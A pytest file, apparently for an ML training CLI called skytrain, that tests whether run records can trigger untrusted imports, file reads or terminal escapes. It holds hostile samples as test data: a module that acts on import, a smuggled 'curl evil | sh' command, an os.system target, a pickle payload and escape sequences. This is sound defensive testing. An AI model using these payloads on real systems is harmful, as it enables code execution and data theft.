"""A record of the store is data: it names no code that the person who reads it has not named."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from skytrain.cli.main import app
from skytrain.config import SkytrainError, check_trusted, compose, forget_trust, trust, trust_settings, visible
from skytrain.config.trusted_code import check_brought
from skytrain.pipelines.serve import ServeJob, ServeRequest, served_model
from skytrain.pipelines.train import train
from skytrain.runs import Silent, load_run
from skytrain.storage import DamagedRecord, open_store, read_object
from tests.support.tiny import tiny_config

ATTACK = """\
from pathlib import Path
Path("attacked").write_text("with the operator's credentials")
import torch


class Model(torch.nn.Module):
    def __init__(self, **_):
        super().__init__()
"""
CUSTOM = {"family": "custom", "name": "x", "target": "attack.Model", "args": {}, "vocab_size": 512, "max_length": 64}


@pytest.fixture(scope="module")
def trained(prepared_root: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = Path(shutil.copytree(prepared_root, tmp_path_factory.mktemp("trained") / "store"))
    train(tiny_config(root, "run=mine", "trainer.steps=3"), Silent())
    return root


@pytest.fixture
def folder(trained: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """The folder in which an operator works: a store with a trained run, and a file that must not be imported."""
    root = Path(shutil.copytree(trained, tmp_path / "store"))
    (tmp_path / "attack.py").write_text(ATTACK)
    monkeypatch.chdir(tmp_path)
    forget_trust()
    yield root
    forget_trust()
    sys.modules.pop("attack", None)


def change_record(root: Path, change: Callable[[dict[str, Any]], None]) -> None:
    """Write what a machine of the run can write."""
    path = root / "runs/mine/run.json"
    record = json.loads(path.read_text())
    change(record)
    path.write_text(json.dumps(record))


def skytrain(*words: str) -> str:
    """Run a command, and return the error that it ends with."""
    result = CliRunner().invoke(app, list(words), input="hello\n")
    return str(result.exception or "")


def name_class(record: dict[str, Any]) -> None:
    record["config"]["model"] = CUSTOM


def test_a_class_that_a_record_names_is_imported_only_by_whoever_has_named_it(folder: Path) -> None:
    change_record(folder, name_class)
    words = ["generate", "--from", "mine", f"store.root={folder}", "--max-tokens", "2"]
    assert "--trust model.target=attack.Model" in skytrain(*words)
    assert not Path("attacked").exists()
    skytrain(*words, "--trust", "model.target=attack.Model")
    assert Path("attacked").exists()


@pytest.mark.parametrize(
    "words",
    [
        ["evaluate", "--from", "mine", "--tokens", "1K"],
        ["export", "--from", "mine", "--out", "out"],  # serve exports, too
        ["merge", "mine", "mine", "--force", "--out", "out"],
        ["chat", "mine"],
    ],
)
def test_every_verb_that_loads_a_run_refuses(folder: Path, words: list[str]) -> None:
    change_record(folder, name_class)
    assert "--trust model.target=attack.Model" in skytrain(*words, f"store.root={folder}")
    assert not Path("attacked").exists()


@pytest.mark.parametrize(
    ("model", "option"),
    [
        ({"family": "hf", "name": "someone/else", "trust_remote_code": False}, "--trust model.name=someone/else"),
        ({"family": "hf", "name": "a", "trust_remote_code": True}, "--trust model.trust_remote_code=true"),
        ({"family": "hf", "name": "a", "revision": "refs/pr/1"}, "--trust model.revision=refs/pr/1"),
        ({"family": "custom", "target": "a.B; curl evil | sh"}, r"--trust 'model\.target=a\.B; curl evil \| sh'"),
        ({"family": "custom", "target": "os.system"}, "--trust model.target=os.system"),
        ({"family": "custom", "args": {"inner": [{"target": "evil.Class"}]}, "target": "skytrain.models.Decoder"},
         "--trust model.args.inner.target=evil.Class"),
    ],
)  # fmt: skip
def test_repositories_folders_and_nested_classes_are_refused_with_what_to_type(
    model: dict[str, Any], option: str
) -> None:
    forget_trust()
    with pytest.raises(SkytrainError, match=option):
        check_trusted(model, "model", "run mine")


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("cloud.packages", ["7z"]),  # the name of a package, and no number with a unit
        ("cloud.packages", [12]),
        ("cloud.slurm.account", "a"),
        ("data.source.endpoint", "https://theirs"),  # which would be sent the token of the hub
        ("cloud.slurm.environment", {"PYTHONPATH": "."}),
        ("cloud.slurm.setup", ["2to3"]),
        ("cloud.secrets", {"owner": "7"}),
        ("serve.python", "3python"),
        ("spark.conf", {"spark.plugins": 1}),
    ],
)
def test_settings_of_where_a_job_runs_that_hold_text_are_judged_whatever_they_look_like(key: str, value: Any) -> None:
    forget_trust()
    values: Any = value
    for name in reversed(key.split(".")):
        values = {name: values}
    with pytest.raises(SkytrainError, match=f"the plan names code or files that you have not named: {key}"):
        check_brought(values, {key: value}, [], "the plan", "whoever made it")
    check_brought(values, {key: value}, [key], "the plan", "whoever made it")
    numbers = {"cloud": {"patience": "20m", "slurm": {"nodes": 2, "time": "2h"}, "emr": {"keep_alive": True}}}
    check_brought(numbers, {"cloud.patience": "20m", "cloud.slurm.nodes": 2}, [], "the plan", "whoever made it")


@pytest.mark.parametrize("key", ["cloud.packages", "cloud.machine_roles.node", "cloud.secrets", "cloud.kms_key"])
@pytest.mark.parametrize("nothing", [None, "", [], {}])
def test_nothing_in_place_of_what_says_where_a_job_runs_is_judged(key: str, nothing: Any) -> None:
    forget_trust()
    with pytest.raises(SkytrainError, match=f"the plan names code or files that you have not named: {key}="):
        check_brought({}, {key: nothing}, [], "the plan", "whoever made it")
    check_brought({}, {key: nothing}, [key], "the plan", "whoever made it")


def test_what_a_person_has_named_is_trusted_and_nothing_else() -> None:
    forget_trust()
    trust_settings({"model": {"family": "hf", "name": "my/model", "trust_remote_code": True}})
    trust(["model.target=mine.Model"])
    check_trusted({"family": "hf", "name": "my/model", "trust_remote_code": True}, "model", "run a")
    check_trusted({"family": "custom", "target": "mine.Model"}, "model", "run a")
    anybody = {"family": "hf", "name": "my/model", "trust_remote_code": True, "revision": "refs/pr/1"}
    for other in ({"family": "hf", "name": "their/model"}, {"family": "custom", "target": "theirs.Model"}, anybody):
        with pytest.raises(SkytrainError, match="names code or files that you have not named"):
            check_trusted(other, "model", "run a")
    forget_trust()


def test_a_record_in_another_language_or_of_another_shape_is_an_error_and_no_crash(folder: Path) -> None:
    store = open_store(tiny_config(folder).store)
    hostile = {
        "deep": b"[" * 100_000,
        "wrong type": b'{"name": 7, "config": "none"}',
        "not a number": b'{"config": NaN}',
        "no text": b"\xff\xfe\x00",
        "list": b"[]",
        "pickle": b"\x80\x04\x95\x1e\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94.",
    }
    for name, body in hostile.items():
        store.write("runs/hostile/run.json", body)
        with pytest.raises(SkytrainError):
            load_run(store, "hostile")
        assert not Path("attacked").exists(), name
    store.write("runs/hostile/run.json", b'"' + b"x" * (65 * 2**20) + b'"')
    with pytest.raises(DamagedRecord, match="bytes"):
        read_object(store, "runs/hostile/run.json")


def test_a_tokenizer_outside_the_store_is_not_read_because_a_record_says_so(folder: Path) -> None:
    def name_folder(record: dict[str, Any]) -> None:
        record["config"]["tokenizer"] = {
            "kind": "hf", "name": "/etc", "text_may_be_special": False, "vocab_size": 512, "id": "x-0",
        }  # fmt: skip
        record["tokenizer_id"] = "x-0"

    change_record(folder, name_folder)
    assert "--trust tokenizer.name=/etc" in skytrain("generate", "--from", "mine", f"store.root={folder}")


def test_token_files_that_a_record_names_are_read_only_if_the_person_names_them(folder: Path, tmp_path: Path) -> None:
    (tmp_path / "secret.bin").write_bytes(b"\x01\x02" * 4096)
    files = {"train": "/etc/*", "validation": str(tmp_path / "secret.bin"), "format": "nanogpt", "dtype": "uint16"}
    change_record(folder, lambda record: record["config"]["loader"].update(files=files))
    words = ["evaluate", "--from", "mine", f"store.root={folder}"]
    said = f"loader.files.validation={tmp_path / 'secret.bin'}"
    assert f"--trust {said}" in skytrain(*words)
    assert "--trust" not in skytrain(*words, "--trust", said)


def test_an_expert_that_is_a_file_of_yours_is_read_only_if_you_name_it(folder: Path, tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("mine")
    for expert in (str(tmp_path / "secret"), "someone/else"):
        forest = {"experts": [expert], "prior": [1.0], "updating": False}
        (folder / "runs/mine/ensemble.json").write_text(json.dumps(forest))
        said = skytrain("generate", "--from", "mine", f"store.root={folder}")
        assert f"--trust ensemble.expert={expert}" in said


def test_an_ensemble_that_names_itself_is_refused(folder: Path) -> None:
    (folder / "runs/mine/ensemble.json").write_text(
        json.dumps({"experts": ["mine"], "prior": [1.0], "updating": False})
    )
    assert "is an ensemble of ensembles" in skytrain("generate", "--from", "mine", f"store.root={folder}")


def test_a_merge_reads_no_weights_because_a_record_calls_them_its_start(folder: Path, tmp_path: Path) -> None:
    (tmp_path / "weights").mkdir()
    (tmp_path / "weights/config.json").write_text("{}")
    change_record(folder, lambda record: record.update(started_from=str(tmp_path / "weights"), parent=None))
    shutil.copytree(folder / "runs/mine", folder / "runs/two")
    record = json.loads((folder / "runs/two/run.json").read_text())
    (folder / "runs/two/run.json").write_text(json.dumps({**record, "name": "two"}))
    said = skytrain("merge", "mine", "two", "--method", "ties", f"store.root={folder}")
    assert f"--trust base={tmp_path / 'weights'}" in said


def test_a_class_of_skytrain_itself_is_named_by_the_person_as_well() -> None:
    forget_trust()
    with pytest.raises(SkytrainError, match=r"--trust model\.target=skytrain\.lazy\.import_module"):
        check_trusted(
            {"family": "custom", "target": "skytrain.lazy.import_module", "args": {"name": "x"}}, "model", "r"
        )


PLANTED = "\x1b]0;owned\x07\x9b2J\u202e\ud83d"
PROGRAM = "import sys; from skytrain.cli.main import main; sys.argv[0] = 'skytrain'; main()"


@pytest.mark.parametrize("verb", ["status", "runs list", "report mine", "costs mine", "logs mine", "checkpoints list mine",
                                  "data list", "plot mine --metric train/loss"])  # fmt: skip
def test_no_text_of_a_run_reaches_the_terminal_raw(folder: Path, verb: str) -> None:
    """Every text of every record has control characters and half a character in it."""
    for path in sorted((folder / "runs/mine").rglob("*.json*")):
        if path.name != "manifest.json":
            lines = [json.dumps(_planted(json.loads(line))) for line in _records(path)]
            path.write_text("\n".join(lines))
    words = [*verb.split(), f"store.root={folder}"]
    done = subprocess.run([sys.executable, "-c", PROGRAM, *words], capture_output=True, check=False)
    written = (done.stdout + done.stderr).decode()
    assert not [character for character in "\x1b\x07\x9b\u202e" if character in written]
    assert "Traceback" not in written


def _records(path: Path) -> list[str]:
    return path.read_text().splitlines() if path.suffix == ".jsonl" else [path.read_text()]


def _planted(value: Any, key: str = "") -> Any:
    if isinstance(value, dict):
        return {each: _planted(inner, each) for each, inner in value.items()}
    if isinstance(value, list):
        return [_planted(inner) for inner in value]
    # Names by which other records are found, and times, stay what they are: else nothing is shown.
    same = key in ("name", "tokenizer_id") or key.endswith("_at") or key in ("at", "outcome", "root")
    return f"{value}{PLANTED}" if isinstance(value, str) and not same else value


def test_text_of_a_store_cannot_command_a_terminal() -> None:
    assert visible("half \ud83d of one") == "half \\xd83d of one"
    assert visible("a\x1b]0;title\x07b\x1b[2Jc\u202ed") == "a\\x1b]0;title\\x07b\\x1b[2Jc\\x202ed"
    assert visible("line\r\n\tline") == "line\n\tline"


def test_an_endpoint_of_a_run_does_not_serve_what_another_has_been_exported_as(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The attack: a machine of the run `my_run` copies a checkpoint of `my-run`, beside a record of its own."""
    monkeypatch.setenv("SKYTRAIN_CACHE", str(folder.parent / "cache"))
    served = {}
    for run, epsilon in (("my_run", 0.5), ("my-run", 1e-5)):
        shutil.copytree(folder / "runs/mine", folder / f"runs/{run}")
        path = folder / f"runs/{run}/run.json"
        record = json.loads(path.read_text())
        record["name"] = run
        record["config"]["model"]["norm_eps"] = epsilon
        path.write_text(json.dumps(record))
        served[run] = served_model(ServeJob(compose([f"store.root={folder}"]), ServeRequest(run)), "fp32", Silent())
    assert served["my-run"].config["layer_norm_epsilon"] == 1e-5
    assert served["my-run"].folder != served["my_run"].folder
